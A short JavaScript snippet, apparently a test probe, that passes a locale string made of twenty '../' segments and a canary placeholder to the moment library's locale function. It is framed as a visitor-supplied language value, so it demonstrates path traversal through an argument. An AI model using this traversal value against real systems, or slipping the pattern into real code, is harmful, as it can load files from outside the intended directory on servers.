// The page's language, as the visitor gives it. How deep the package lies is not known, so go up often enough.
const moment = require('moment');

const asked = '../'.repeat(20) + '@@CANARY@@'.slice(1);
console.log(moment.locale(asked));
